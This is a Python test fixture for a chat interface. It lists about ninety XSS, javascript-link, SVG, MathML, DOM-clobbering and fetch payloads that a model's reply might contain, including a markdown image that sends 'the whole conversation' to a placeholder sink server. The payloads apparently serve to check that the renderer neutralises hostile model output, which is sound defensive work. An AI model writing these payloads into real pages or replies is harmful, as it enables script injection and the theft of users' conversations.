"""What a model could write to run a script or to make the browser fetch something, for every host of the chat.

`{sink}` stands for the address of a server that takes note of what reaches it, `{host}` for the same without its
scheme. A host renders each payload as a reply, whole and cut at every point of a stream, and shows afterwards that
`window.hacked` is unset and the sink untouched.
"""

import re

PAYLOADS: dict[str, str] = {
    # Script, in every way HTML has
    "script": "<script>window.hacked = 1</script>",
    "script from elsewhere": '<script src="{sink}/script.js"></script>',
    "script in a paragraph": "Before <script>window.hacked = 1</script> after.",
    "script in a list": "- one\n- <script>window.hacked = 1</script>",
    "script in a table": "| a |\n|---|\n| <script>window.hacked = 1</script> |",
    "script split by a comment": "<scr<!-- -->ipt>window.hacked = 1</scr<!-- -->ipt>",
    "script behind a null": "<scr\0ipt>window.hacked = 1</scr\0ipt>",
    "script as entities": "&lt;script&gt;window.hacked = 1&lt;/script&gt;",
    "script as numeric entities": "&#60;script&#62;window.hacked = 1&#60;/script&#62;",
    "module preload": '<link rel="modulepreload" href="{sink}/module.js">',
    "noscript confusion": '<noscript><p title="</noscript><img src={sink}/n.png onerror=window.hacked=1>">',
    # Handlers
    "image with a handler": '<img src="{sink}/missing.png" onerror="window.hacked = 1">',
    "details with a handler": '<details open ontoggle="window.hacked = 1"><summary>x</summary></details>',
    "input with focus": '<input autofocus onfocus="window.hacked = 1">',
    "body with a handler": '<body onload="window.hacked = 1">',
    "marquee with a handler": '<marquee onstart="window.hacked = 1">x</marquee>',
    "video with a handler": '<video src="{sink}/v.mp4" onerror="window.hacked = 1" autoplay></video>',
    "animation with a handler": '<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="hacked=1">',
    "handler in an info string": '```python" onmouseover="window.hacked=1" autofocus tabindex=1 x="\nx = 1\n```',
    "handler in a link's title": '[x](https://example.org "a\\" onmouseover=\\"window.hacked = 1")',
    "handler in alt text": '![a" onerror="window.hacked = 1]({sink}/alt.png)',
    # Frames, objects, documents
    "frame with a document": '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
    "frame from elsewhere": '<iframe src="{sink}/frame.html"></iframe>',
    "frame with javascript": '<iframe src="javascript:parent.hacked=1"></iframe>',
    "object": '<object data="{sink}/object.html"></object>',
    "embed": '<embed src="{sink}/embed.html">',
    "base": '<base href="{sink}/base/">\n\n[x](relative)',
    "refresh": '<meta http-equiv="refresh" content="0; url={sink}/refresh">',
    "form": '<form action="{sink}/form"><input name=q><button autofocus>send</button></form>',
    "portal and fenced frame": '<portal src="{sink}/p"></portal><fencedframe src="{sink}/f"></fencedframe>',
    # SVG and styles
    "svg with a handler": '<svg onload="window.hacked = 1"></svg>',
    "svg with script": "<svg><script>window.hacked = 1</script></svg>",
    "svg that uses": '<svg><use href="{sink}/use.svg#x"></use><image href="{sink}/image.svg" /></svg>',
    "svg with a foreign object": "<svg><foreignObject><img src=x onerror=window.hacked=1></foreignObject></svg>",
    "svg with animation": '<svg><a><animate attributeName="href" values="javascript:window.hacked=1" /></a></svg>',
    "style with import": '<style>@import url("{sink}/import.css");</style>',
    "style with background": "<div style=\"background: url('{sink}/background.png')\">x</div>",
    "style sheet": '<link rel="stylesheet" href="{sink}/sheet.css">',
    "style over the page": '<div style="position:fixed;inset:0;z-index:99999">Sign in again</div>',
    # Images and whatever else the browser would fetch, in every syntax
    "image": "![alt]({sink}/image.png)",
    "image with a title": '![alt]({sink}/titled.png "title")',
    "image by reference": "![alt][ref]\n\n[ref]: {sink}/reference.png",
    "image by short reference": "![ref]\n\n[ref]: {sink}/short.png",
    "image in a link": "[![alt]({sink}/inner.png)](https://example.org)",
    "image in a heading": "# ![alt]({sink}/heading.png)",
    "image in a table": "| a |\n|---|\n| ![x]({sink}/table.png) |",
    "image in angle brackets": "![alt](<{sink}/angle.png>)",
    "image without a scheme": "![alt]({host}/without-scheme.png)",
    "relative image": "![alt](/sink/relative.png) ![alt](sink/relative.png)",
    "data image": "![alt](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhhY2tlZD0xIi8+)",
    "image with secrets": "![loading]({sink}/leak?text=the+whole+conversation)",
    "html image": '<img src="{sink}/html.png">',
    "html image set": '<img srcset="{sink}/set.png 2x" sizes="100vw">',
    "picture": '<picture><source srcset="{sink}/source.png"><img alt=x></picture>',
    "audio": '<audio src="{sink}/audio.mp3" preload="auto"></audio>',
    "video poster": '<video poster="{sink}/poster.png"></video>',
    "track": '<video><track default src="{sink}/track.vtt"></video>',
    "input image": '<input type="image" src="{sink}/input.png">',
    "table background": '<table background="{sink}/table-background.png"><tr><td>x</td></tr></table>',
    "prefetch": '<link rel="prefetch" href="{sink}/prefetch"><link rel="dns-prefetch" href="//sink.example">',
    "ping": '<a href="https://example.org" ping="{sink}/ping">x</a>',
    # Links
    "javascript link": "[x](javascript:window.hacked=1)",
    "javascript link in capitals": "[x](JaVaScRiPt:window.hacked=1)",
    "javascript link with entities": "[x](&#106;avascript&colon;window.hacked=1)",
    "javascript link with a tab": "[x](java&Tab;script:window.hacked=1) [y](java&NewLine;script:window.hacked=1)",
    "javascript link behind control characters": "[x](\x01javascript:window.hacked=1)",
    "javascript link with zero width": "[x](java\u200bscript:window.hacked=1) [y](\ufeffjavascript:window.hacked=1)",
    "javascript link by reference": "[x]\n\n[x]: javascript:window.hacked=1",
    "javascript autolink": "<javascript:window.hacked=1>",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)",
    "blob and file links": "[x](blob:https://example.org/1) [y](file:///etc/passwd)",
    "relative link": "[x](/lab?reset) [y](../api/shutdown) [z](?a=1) [w](#top)",
    "link without a scheme": "[x]({host}/path)",
    "html link": '<a href="javascript:window.hacked=1" target="_self">x</a>',
    # Names that take a place in the document
    "clobbered names": '<form name="querySelector"><input id="body" name="cookie"></form><a id="model">x</a>',
    "clobbered heading": '# x {#model}\n\n<h1 id="page">x</h1>',
    "our own classes and buttons": '<button data-action="run" class="wb-Button">Insert and run</button>',
    "our own element": '<wb-chat></wb-chat><slot name="no-model"></slot>',
    # Math
    "math with a link": r"$\href{javascript:window.hacked=1}{x}$ and $\url{javascript:window.hacked=1}$",
    "math with an image": r"$$\includegraphics{{sink}/math.png}$$",
    "math with html": r"$\htmlClass{x}{y} \htmlId{model}{y} \htmlStyle{position:fixed}{y} \htmlData{a=b}{y}$",
    "math with text": r"$\text{<img src={sink}/text.png onerror=window.hacked=1>}$",
    "math as html": '<math><mtext><img src="{sink}/mtext.png" onerror="window.hacked=1"></mtext></math>',
    "math that acts": '<math><maction actiontype="statusline" xlink:href="javascript:hacked=1">x</maction></math>',
    "math confusion": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=hacked=1">',
    "math out of bounds": r"$\rule{99999em}{99999em}$ $\hspace{99999em}x$ $\kern{-99999em}x$ $\raisebox{9999em}{x}$",
    "math without end": r"$\def\a{\a\a}\a$ " + "$" + "{" * 3000 + "}" * 3000 + "$",
    # Cuts and nests
    "fence in a fence": "````\n```\n<script>window.hacked = 1</script>\n```\n````",
    "fence without end": "```html\n<img src={sink}/fence.png onerror=window.hacked=1>",
    "code with html": "`<img src={sink}/code.png onerror=window.hacked=1>`",
    "quotes without end": ">" * 2000 + " <img src={sink}/quote.png>",
    "brackets without end": "[" * 4000 + "![" * 2000,
    "attribute cut by a comment": '<img src="x` `<script>window.hacked=1</script>"` `>',
    "cdata": "<![CDATA[<script>window.hacked=1</script>]]>",
    "template": "<template><script>window.hacked=1</script></template>",
    "declared shadow root": '<div><template shadowrootmode="open"><script>window.hacked=1</script></template></div>',
    "text that turns around": "\u202e<tpircs>1 = dekcah.wodniw\u202c [\u202etxt.exe](https://example.org)",
}


def payloads(sink: str) -> dict[str, str]:
    """Every payload, aimed at `sink`, which is a URL without a slash at its end."""
    host = sink.partition(":")[2]
    return {name: text.replace("{sink}", sink).replace("{host}", host) for name, text in PAYLOADS.items()}


FIRST_NUMBER = 1001
"""So that a payload's number is not taken for anything that a payload says by itself."""


def numbered_payloads(sink: str) -> dict[str, str]:
    """The same, each with its number in what it fetches and in what it sets `window.hacked` to, as far as it is plain.

    `named` tells from either which payload it was.
    """
    return {
        name: re.sub(r"(hacked *= *)1\b", rf"\g<1>{number}", payloads(f"{sink}/{number}")[name])
        for number, name in enumerate(PAYLOADS, FIRST_NUMBER)
    }


def named(trace: object) -> str:
    """The payload that left this trace: a path that was asked for, or a value of `window.hacked`."""
    names = list(PAYLOADS)
    numbers = [int(found) - FIRST_NUMBER for found in re.findall(r"\d{4}", str(trace))]
    return next((names[number] for number in numbers if 0 <= number < len(names)), f"some payload ({trace})")
